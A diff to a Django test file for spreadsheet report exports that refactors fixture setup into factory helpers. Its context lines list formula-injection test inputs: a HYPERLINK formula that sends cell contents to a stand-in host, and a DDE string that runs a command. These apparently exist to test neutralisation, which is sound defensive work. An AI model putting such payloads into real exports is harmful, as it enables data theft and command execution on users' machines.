@@ -13,18 +13,11 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from measures import engine
-from measures.models import Area, Measure, Value
-from measures.periods import parse_month
+from measures.models import Area, Measure
 from reports.exports import neutralise
+from tests.factories import monthly_values, table_pages
 
-TABLE_PAGES = [
-    "reports:national-picture",
-    "reports:national-comparison",
-    "reports:year-to-date",
-    "reports:monthly",
-    "reports:scorecard",
-    "reports:performance",
-]
+TABLE_PAGES = table_pages()
 FORMULAS = [
     '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
     "+cmd|' /C calc'!A0",
@@ -36,18 +29,10 @@ FORMULAS = [
 @pytest.fixture
 def figures(small_plan):
     measure = Measure.objects.get(code="t-assaults")
-    first = parse_month("2019-01")
-    Value.objects.bulk_create(
-        Value(
-            measure=measure,
-            area=area,
-            start=first.shift(i).first_day,
-            end=first.shift(i).first_day,
-            value=Decimal(10 + i % 7) * (100 if area.code == "nation" else 1),
-            status=Value.Status.APPROVED,
-        )
-        for area in Area.objects.filter(code__in=["force", "nation"])
-        for i in range(48)
+    monthly_values(
+        measure,
+        Area.objects.filter(code__in=["force", "nation"]),
+        value=lambda i, area: Decimal(10 + i % 7) * (100 if area.code == "nation" else 1),
     )
     engine.recompute()
     return measure
